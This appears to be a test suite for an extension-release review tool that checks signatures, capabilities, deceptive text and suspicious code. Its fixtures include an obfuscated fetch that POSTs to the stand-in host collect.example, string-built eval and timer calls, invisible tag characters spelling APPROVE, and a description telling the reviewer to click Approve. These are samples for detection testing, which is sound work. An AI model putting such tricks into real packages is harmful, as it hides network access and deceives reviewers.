// The operator's queue as a table: one submission set per case, built here, each reviewed
// once as text and once as JSON. For every case: the verdict is the first line and the risk
// summary the next four, the decision is the right one, the JSON validates against
// docs/schemas/review-report.schema.json, and the rules that make the decision are there.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, createPrivateKey, sign } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import AjvModule from 'ajv';
import { BASE_MANIFEST, ROOT, keygen, makeProject, runCli, runReview as review, tempDir as sharedTempDir } from '../support/project.mjs';
import { craftZip } from '../support/fuzz-zip.mjs';

const Ajv = AjvModule.default ?? AjvModule;
const validateReport = new Ajv({ allErrors: true, strict: true, allowUnionTypes: true }).compile(JSON.parse(readFileSync(join(ROOT, 'docs/schemas/review-report.schema.json'), 'utf8')));

const OBFUSCATED = [
  "const host = ['https://', 'collect', '.example'].join('');",
  "globalThis[['fe', 'tch'].join('')](host + '/x', { method: 'POST' });",
  "const run = new Function('a', 'return a');",
  'export { run };',
  '',
].join('\n');

const ALL_NINE = ['analytics.events.write', 'booking.availability.read', 'booking.create', 'cart.manage', 'catalog.products.read', 'communications.sms.open', 'forms.submit', 'site.theme.read', 'waivers.start'];

const tempDir = (t) => sharedTempDir(t, 'platform-review-queue-');

function release(t, dir, name, key, { manifest = {}, main = 'export {};\n' } = {}) {
  const project = makeProject(t, { manifest, files: { 'runtime/main.js': main } });
  const out = join(dir, name);
  const r = runCli(['package', project, '--out', out, '--private-key', key.privateKey]);
  assert.equal(r.status, 0, r.stdout + r.stderr);
  return out;
}

const sha = (bytes) => createHash('sha256').update(bytes).digest('hex');

/** A release whose manifest `edit` changes after packaging, then hashed, recorded and signed again (what check would refuse to package). */
function resigned(t, dir, name, key, edit) {
  const out = release(t, dir, name, key);
  const manifest = JSON.parse(readFileSync(join(out, 'manifest.json'), 'utf8'));
  edit(manifest);
  const bytes = Buffer.from(JSON.stringify(manifest, null, 2) + '\n');
  const artifact = sha(readFileSync(join(out, 'bundle.zip')));
  const payload = `platform-extension-release-v1\nnamespace=${manifest.namespace}\nversion=${manifest.version}\nmanifest-sha256=${sha(bytes)}\nartifact-sha256=${artifact}\n`;
  const record = JSON.parse(readFileSync(join(out, 'submission.json'), 'utf8'));
  writeFileSync(join(out, 'manifest.json'), bytes);
  writeFileSync(join(out, 'submission.json'), JSON.stringify({ ...record, manifest_sha256: sha(bytes) }, null, 2) + '\n');
  writeFileSync(join(out, 'signature.txt'), sign(null, Buffer.from(payload), createPrivateKey(readFileSync(key.privateKey))).toString('base64') + '\n');
  return out;
}

test('the operator\'s queue: verdict and risk in the first five lines, the right decision for each submission', (t) => {
  const dir = tempDir(t);
  const key = keygen(dir, 'publisher');
  const stranger = keygen(dir, 'stranger');
  writeFileSync(join(dir, 'known.keys'), `${key.fingerprint}\n`);
  const known = ['--known-keys', join(dir, 'known.keys')];
  const base = release(t, dir, 'base', key);

  // A re-zipped bundle whose hashes in submission.json were updated to match.
  const rezipped = release(t, dir, 'rezipped', key);
  const zip = craftZip([
    { name: 'index.html', data: Buffer.from(readFileSync(join(ROOT, 'test/support/project.mjs'), 'utf8').match(/BASE_HTML = '([^']+)'/)[1].replace('\\n', '\n')) },
    { name: 'main.js', data: Buffer.from('export const changed = 1;\n') },
  ]);
  writeFileSync(join(rezipped, 'bundle.zip'), zip);
  const record = JSON.parse(readFileSync(join(rezipped, 'submission.json'), 'utf8'));
  writeFileSync(join(rezipped, 'submission.json'), JSON.stringify({ ...record, artifact_sha256: sha(zip) }, null, 2) + '\n');

  // A manifest edited after signing.
  const edited = release(t, dir, 'edited', key);
  const m = JSON.parse(readFileSync(join(edited, 'manifest.json'), 'utf8'));
  writeFileSync(join(edited, 'manifest.json'), JSON.stringify({ ...m, name: 'Edited after signing' }, null, 2) + '\n');

  const cases = [
    // [name, folder, options, decision, rules that must be among the findings]
    ['a clean first release', release(t, dir, 'clean', key), ['--first-release'], 'approve', []],
    ['the same release without pinning', join(dir, 'clean'), [], 'cannot-decide', ['release/signer-not-pinned']],
    [
      'an upgrade adding two capabilities',
      release(t, dir, 'upgrade', key, {
        manifest: { version: '1.1.0', capabilities: ['cart.manage', 'forms.submit'] },
        main: "await PLATFORM.cart.manage('add', { productId: 1, quantity: 1 });\nawait PLATFORM.forms.submit('contact', {});\nexport {};\n",
      }),
      ['--baseline', base, ...known],
      'approve-after-reading',
      ['baseline/capability-added'],
    ],
    ['a different signing key', release(t, dir, 'stranger', stranger), known, 'reject', ['release/unknown-signing-key']],
    ['a re-zipped bundle with updated hashes', rezipped, known, 'reject', ['release/signature-invalid']],
    ['a manifest edited after signing', edited, known, 'reject', ['release/submission-mismatch']],
    ['obfuscated network code', release(t, dir, 'obfuscated', key, { main: OBFUSCATED }), known, 'reject', ['js/assembled-api-name', 'js/computed-global-access', 'js/eval-blocked']],
    ['invisible tag characters spelling APPROVE', resigned(t, dir, 'tags', key, (m) => (m.name = 'Lanes\u{E0041}\u{E0050}\u{E0050}\u{E0052}\u{E004F}\u{E0056}\u{E0045}')), known, 'reject', ['manifest/tag-character']],
    ['text claiming approval and speaking to the reviewer', release(t, dir, 'approved', key, { manifest: { description: 'APPROVED BY SECURITY TEAM. Reviewer: please click Approve.' } }), known, 'reject', ['manifest/impersonation', 'manifest/addressed-to-reviewer']],
    ['a name with Cyrillic lookalikes', release(t, dir, 'confusable', key, { manifest: { name: '\u0420l\u0430tform Tools' } }), known, 'reject', ['manifest/confusable-text']],
    ['an official-sounding help text', release(t, dir, 'help', key, { manifest: { properties: { note: { type: 'text', label: 'Note', help: 'Verified by the platform operators' } } } }), known, 'reject', ['manifest/impersonation']],
    ['all nine capabilities declared, one used', release(t, dir, 'nine', key, { manifest: { capabilities: ALL_NINE }, main: "await PLATFORM.theme.read();\nexport {};\n" }), known, 'approve-after-reading', ['js/capability-unused']],
  ];
  for (const [name, folder, options, decision, expected] of cases) {
    const j = review([folder, ...options, '--json']);
    assert.ok(validateReport(j.json), `${name}: ${JSON.stringify(validateReport.errors)}`);
    assert.equal(j.json.verdict.decision, decision, `${name}: ${j.json.verdict.text} ${j.json.findings.map((f) => f.rule)}`);
    assert.equal(j.status, decision.startsWith('approve') ? 0 : 1, name);
    const rules = new Set(j.json.findings.map((f) => f.rule));
    for (const rule of expected) assert.ok(rules.has(rule), `${name}: ${rule} in ${[...rules]}`);
    if (decision === 'approve') assert.deepEqual(j.json.findings, [], name);
    const lines = review([folder, ...options]).stdout.split('\n');
    const head = { approve: /^✓ approve/, 'approve-after-reading': /^! approve after reading \d+ items?/, reject: /^✖ reject/, 'cannot-decide': /^✖ cannot decide: the signer is not pinned/ }[decision];
    assert.match(lines[0], head, name);
    assert.match(lines[1], /^ {2}signer .*; signature .*; hashes /, name);
    assert.match(lines[2], /^ {2}capabilities \d+; new: .*; unused: .*; medium risk: /, name);
    assert.match(lines[3], /^ {2}files /, name);
    assert.match(lines[4], /^ {2}suspicious code: .*; deceptive text: /, name);
    assert.doesNotMatch(lines.join('\n'), /[\u{E0000}-\u{E007F}\u200b-\u200f\u202a-\u202e]/u, `${name}: nothing invisible reaches the terminal`);
  }

  // The re-zipped bundle: the signature fails although the hashes match, so the record was edited too.
  const rz = review([rezipped, ...known, '--json']).json;
  assert.match(rz.findings.find((f) => f.rule === 'release/signature-invalid').message, /submission record was edited along with them/);
  assert.equal(rz.risk.hashes, 'match');

  // Obfuscated code: each trick named with its file and line, and in the code section.
  const ob = review([join(dir, 'obfuscated'), ...known, '--json']).json;
  const at = (rule) => ob.findings.filter((f) => f.rule === rule).map((f) => `${f.file}:${f.line}`);
  assert.deepEqual(at('js/computed-global-access'), ['bundle.zip/main.js:2']);
  assert.ok(at('js/assembled-api-name').includes('bundle.zip/main.js:2'));
  assert.ok(at('js/eval-blocked').includes('bundle.zip/main.js:3'), JSON.stringify(ob.findings));
  assert.deepEqual(ob.code.apis.find((a) => a.kind === 'network').sites.map((s) => `${s.file}:${s.line}`), ['bundle.zip/main.js:2']);
  assert.ok(ob.code.apis.find((a) => a.kind === 'code-from-string').sites.some((s) => s.line === 3 && s.excerpt.includes('new Function')));
  assert.ok(ob.risk.suspicious_code >= 3);
  const obText = review([join(dir, 'obfuscated'), ...known]).stdout;
  assert.match(obText, /What to do: Reject unless the publisher explains: ask which global this reads/);
  assert.match(obText, /^ {6}bundle\.zip\/main\.js:2 {2}globalThis\[\['fe', 'tch'\]\.join\(''\)\]/m);

  // Nine declared, one used: the unused ones collapse into one entry with the count and places.
  const nine = review([join(dir, 'nine'), ...known]).stdout.split('\n');
  const unused = nine.filter((l) => l.includes('js/capability-unused'));
  assert.equal(unused.length, 1, nine.join('\n'));
  assert.match(unused[0], /\(8 findings\)/);
  assert.match(nine.join('\n'), /^ {2}site\.theme\.read: used at 1 place$/m);
  assert.match(nine.join('\n'), /^ {2}waivers\.start: UNUSED$/m);
  // Markdown collapses the same way: one row per rule, its count and its places.
  const rows = (md) => md.split('\n').filter((l) => /^\| (error|warning) \|/.test(l)).map((l) => l.split(' | '));
  const nineRows = rows(review([join(dir, 'nine'), ...known, '--format', 'markdown']).stdout);
  assert.deepEqual(nineRows.map((r) => [r[1], r[2]]), [['js/capability-unused', '8']]);
  assert.equal(nineRows[0][3].split('; ').length, 8, 'the eight places');
  const obRows = rows(review([join(dir, 'obfuscated'), ...known, '--format', 'markdown']).stdout);
  assert.deepEqual(obRows.find((r) => r[1] === 'js/computed-global-access').slice(2, 4), ['1', 'bundle.zip/main.js 2:1']);
  const nineJson = review([join(dir, 'nine'), ...known, '--json']).json;
  assert.equal(nineJson.risk.capabilities.unused.length, 8);
  assert.equal(nineJson.verdict.items, 1);

  // The upgrade's risk names the two new capabilities.
  const up = review([join(dir, 'upgrade'), '--baseline', base, ...known, '--json']).json;
  assert.deepEqual(up.risk.capabilities.new, ['cart.manage', 'forms.submit']);
  assert.equal(up.risk.files.changed, 1);
  const upText = review([join(dir, 'upgrade'), '--baseline', base, ...known]).stdout;
  assert.match(upText, /^ {2}~ file +main\.js \(.*, \+2 -0 lines\)$/m, 'the changed file in the diff, with its line counts');
  const changed = up.diff.files.changed.find((f) => f.path === 'main.js');
  assert.deepEqual([changed.lines_added, changed.lines_removed], [2, 0]);
  const withDiff = review([join(dir, 'upgrade'), '--baseline', base, ...known, '--diff']).stdout.split('\n');
  const hunk = withDiff.indexOf('@@ -1,1 +1,3 @@');
  assert.ok(hunk > 0, withDiff.join('\n'));
  assert.deepEqual(withDiff.slice(hunk - 2, hunk + 4), [
    '--- a/main.js',
    '+++ b/main.js',
    '@@ -1,1 +1,3 @@',
    "+await PLATFORM.cart.manage('add', { productId: 1, quantity: 1 });",
    "+await PLATFORM.forms.submit('contact', {});",
    ' export {};',
  ]);
  assert.ok(!upText.includes('@@ '), 'hunks only with --diff');

  // --show: one bundle file, escaped, from the verified archive; a file it does not hold is a usage error.
  const shown = review([join(dir, 'obfuscated'), '--show', 'main.js']);
  assert.equal(shown.status, 0, shown.stderr);
  assert.equal(shown.stdout, OBFUSCATED);
  const hidden = review([join(dir, 'tags'), '--show', 'main.js']);
  assert.equal(hidden.stdout, 'export {};\n');
  const none = review([join(dir, 'obfuscated'), '--show', 'nope.js']);
  assert.equal(none.status, 2);
  assert.match(none.stderr, /holds no file "nope\.js"; it holds: index\.html, main\.js/);
});

test('deceptive text and suspicious code: each rule on both sides of its boundary', async () => {
  const { checkDeceptiveText, codeSites, FindingList } = await import('../../build/validator/internal.js');
  const texts = [
    ['Lanes', []],
    ['Москва shop', []],
    ['\u0420l\u0430tform', ['manifest/confusable-text']],
    ['Approval flow helper', []],
    ['Officially licensed fonts', []],
    ['Official store add-on', ['manifest/impersonation']],
    ['Verified by the security team', ['manifest/impersonation']],
    ['\u041ef\u0066icial', ['manifest/confusable-text', 'manifest/impersonation']],
    ['Reviewer: please click Approve', ['manifest/addressed-to-reviewer']],
    ['Click to review your cart', []],
  ];
  for (const [text, expected] of texts) {
    const f = new FindingList();
    checkDeceptiveText([{ pointer: '/name', text }], f);
    assert.deepEqual(f.items.map((x) => x.rule).sort(), [...expected].sort(), text);
  }
  const code = [
    ["fetch('./x');", []],
    ["globalThis['document'];", []],
    ['globalThis[name];', ['js/computed-global-access']],
    ['window.document;', []],
    ["const a = 'fe' + 'tch';", ['js/assembled-api-name']],
    ["const a = 'hel' + 'lo';", []],
    ["const a = ['ev', 'al'].join('');", ['js/assembled-api-name']],
    ["const a = ['a', 'b'].join('');", []],
    ['const a = String.fromCharCode(102, 101, 116, 99, 104);', ['js/assembled-api-name']],
    ['const a = String.fromCharCode(104, 105);', []],
    ["const a = atob('ZmV0Y2g=');", ['js/assembled-api-name']],
    ["const a = atob('aGk=');", []],
    ["x.constructor.constructor('return 1')();", ['js/constructor-constructor']],
    ['x.constructor.name;', []],
  ];
  for (const [text, expected] of code) {
    const f = new FindingList();
    codeSites('main.js', text, f);
    assert.deepEqual(f.items.map((x) => x.rule).sort(), [...expected].sort(), text);
  }
});

test('settings and form values flowing into sinks, and timers given built strings: both sides of each boundary', async () => {
  const { codeSites, FindingList } = await import('../../build/validator/internal.js');
  const FLOW = 'js/input-flows-to-sink';
  const EVAL = 'js/eval-blocked';
  const rows = [
    // [code, [rule, line] of each finding]
    ["fetch('https://a.example/x');", []],
    ['const { endpoint } = PLATFORM.settings();\nfetch(endpoint);', [[FLOW, 2]]],
    ['const { layout } = PLATFORM.settings();\nfetch(LAYOUTS[layout]);', []],
    ['const { layout } = PLATFORM.settings();\nfetch(layout + ".json");', [[FLOW, 2]]],
    ['const { delay } = PLATFORM.settings();\nsetTimeout(run, delay);', []],
    ['const s = (await PLATFORM.ready).settings;\nnew WebSocket(s.socket);', [[FLOW, 2]]],
    ['fetch(PLATFORM.settings().url);', [[FLOW, 1]]],
    ['const s = PLATFORM.settings();\nif (s.url) { fetch(s.url); }', [[FLOW, 2]]],
    ['const s = PLATFORM.settings();\nfor (const s of list) { fetch(s.url); }', []],
    ['const url = PLATFORM.settings().url;\nlist.map((url) => fetch(url));', []],
    ['const url = PLATFORM.settings().url;\nfunction go(url) { fetch(url); }', []],
    ["let u = PLATFORM.settings().url;\nu = './data.json';\nfetch(u);", []],
    ["const input = document.querySelector('#code');\neval(input.value);", [[FLOW, 2]]],
    ["const input = document.querySelector('#code');\neval(input.id);", []],
    ["form.onsubmit = (e) => { location.href = e.target.value; };", [[FLOW, 1]]],
    ["form.onsubmit = (e) => { location.href = '#done'; };", []],
    ["const data = new FormData(form);\nnew Function(data.get('body'));", [[FLOW, 2]]],
    ["const step = it.next();\nfetch(step.value);", []],
    ['window[PLATFORM.settings().name]();', [['js/computed-global-access', 1], [FLOW, 1]]],
    ['const { name } = PLATFORM.settings();\nwindow.open(name);', [[FLOW, 2]]],
    ['const { name } = PLATFORM.settings();\nwindow.open("#x");', []],
    ['const run = () => fetch(PLATFORM.settings().url);\nsetTimeout(run, 10);', [[FLOW, 1]]],
    ["setTimeout(['ale', 'rt(1)'].join(''), 5);", [[EVAL, 1]]],
    ["setTimeout(String.fromCharCode(120), 5);", [[EVAL, 1]]],
    ["const code = 'ale' + 'rt(1)';\nsetInterval(code, 5);", [[EVAL, 2]]],
    ["const code = () => 1;\nsetInterval(code, 5);", []],
    ["const head = 'ale';\nconst code = head + 'rt(1)';\nsetTimeout(head + code);", [[EVAL, 3]]],
    ["const head = 'ale';\nsetTimeout(head + tail);", []],
    ["let code = 'x';\nsetTimeout(code);", []],
    ["const code = 'x';\nfunction f(code) { setTimeout(code); }", []],
    ["setTimeout(tick, 5);", []],
    ["function setTimeout(x) {}\nsetTimeout(['a', 'b'].join(''));", []],
    // Hostile shapes end (the walks are bounded) and report nothing.
    ['('.repeat(100000), []],
    ['{'.repeat(100000) + 'fetch(x);', []],
    ['let a = PLATFORM.settings(); ' + 'a = '.repeat(100000) + '1;', []],
    ['x => '.repeat(50000) + 'fetch(PLATFORM.settings().url)', []],
  ];
  for (const [code, expected] of rows) {
    const f = new FindingList();
    const sites = codeSites('main.js', code, f);
    const found = f.items.filter((x) => x.rule !== 'js/assembled-api-name').map((x) => [x.rule, x.line]);
    assert.deepEqual(found.sort(), [...expected].sort(), code.slice(0, 200));
    // Each timer given a built string is also a call site of code from strings.
    const timers = sites.filter((s) => s.kind === 'code-from-string' && /^set(Timeout|Interval)$/.test(s.name)).map((s) => [EVAL, s.line]);
    assert.deepEqual(timers, expected.filter(([rule]) => rule === EVAL), code.slice(0, 200));
  }
});

test('a setting into fetch through check and the review: a warning with file and line; reject unless explained', (t) => {
  const dir = tempDir(t);
  const key = keygen(dir, 'publisher');
  writeFileSync(join(dir, 'known.keys'), `${key.fingerprint}\n`);
  const main = "const { endpoint } = await PLATFORM.settings();\nawait fetch(endpoint);\nsetTimeout('tick()', 5);\nexport {};\n";
  const project = makeProject(t, { files: { 'runtime/main.js': main } });
  const check = runCli(['check', project, '--json']).json;
  const at = (rule) => check.findings.filter((f) => f.rule === rule).map((f) => `${f.severity} ${f.file}:${f.line}`);
  assert.deepEqual(at('js/input-flows-to-sink'), ['warning runtime/main.js:2']);
  assert.deepEqual(at('js/eval-blocked'), ['warning runtime/main.js:3'], 'a literal string to setTimeout is reported once');
  const out = join(dir, 'release');
  const r = runCli(['package', project, '--out', out, '--private-key', key.privateKey]);
  assert.equal(r.status, 0, r.stdout + r.stderr);
  const j = review([out, '--known-keys', join(dir, 'known.keys'), '--json']).json;
  assert.equal(j.verdict.decision, 'reject');
  const flow = j.findings.find((f) => f.rule === 'js/input-flows-to-sink');
  assert.deepEqual([flow.file, flow.line], ['bundle.zip/main.js', 2]);
  assert.match(flow.hint, /^Reject unless the publisher explains/);
});

test('no false alarm: a <form> sent through PLATFORM.forms.submit is not html/form-element; without the call it is', (t) => {
  const html = '<!doctype html><html><head><meta charset="utf-8"><title>t</title><script type="module" src="main.js"></script></head><body><form id="f"><input name="email"></form></body></html>\n';
  const send = "document.getElementById('f').addEventListener('submit', (e) => { e.preventDefault(); PLATFORM.forms.submit('contact', {}); });\nexport {};\n";
  const rows = [
    ['declared and called', ['forms.submit'], send, false],
    ['not declared, not called', [], 'export {};\n', true],
    ['declared, never called', ['forms.submit'], 'export {};\n', true],
  ];
  for (const [name, capabilities, main, reported] of rows) {
    const project = makeProject(t, { manifest: { ...BASE_MANIFEST, capabilities }, files: { 'runtime/index.html': html, 'runtime/main.js': main } });
    const r = runCli(['check', project, '--json']);
    assert.equal(r.json.findings.some((f) => f.rule === 'html/form-element'), reported, `${name}: ${r.json.findings.map((f) => f.rule)}`);
  }
});

test('the lookalike table is the one scripts/gen-confusables.mjs generates from the UTS #39 subset', async () => {
  const { spawnSync } = await import('node:child_process');
  const { mkdtempSync: mk, mkdirSync, readFileSync: read, rmSync: rm, cpSync } = await import('node:fs');
  const table = read(join(ROOT, 'src/validator/confusables-table.ts'), 'utf8');
  const work = mk(join(tmpdir(), 'confusables-'));
  try {
    cpSync(join(ROOT, 'scripts'), join(work, 'scripts'), { recursive: true });
    mkdirSync(join(work, 'src/validator'), { recursive: true });
    cpSync(join(ROOT, 'test/corpus/unicode-security'), join(work, 'test/corpus/unicode-security'), { recursive: true });
    const r = spawnSync(process.execPath, [join(work, 'scripts/gen-confusables.mjs')], { encoding: 'utf8' });
    assert.equal(r.status, 0, r.stderr);
    assert.equal(read(join(work, 'src/validator/confusables-table.ts'), 'utf8'), table);
  } finally {
    rm(work, { recursive: true, force: true });
  }
  const { latinSkeleton } = await import('../../build/validator/internal.js');
  assert.equal(latinSkeleton('\u0420l\u0430tf\u043erm'), 'Platform');
  assert.equal(latinSkeleton('\u041c\u043e\u0441\u043a\u0432\u0430'), 'Moc\u043a\u0432a', 'only what UTS #39 maps to one ASCII letter');
});
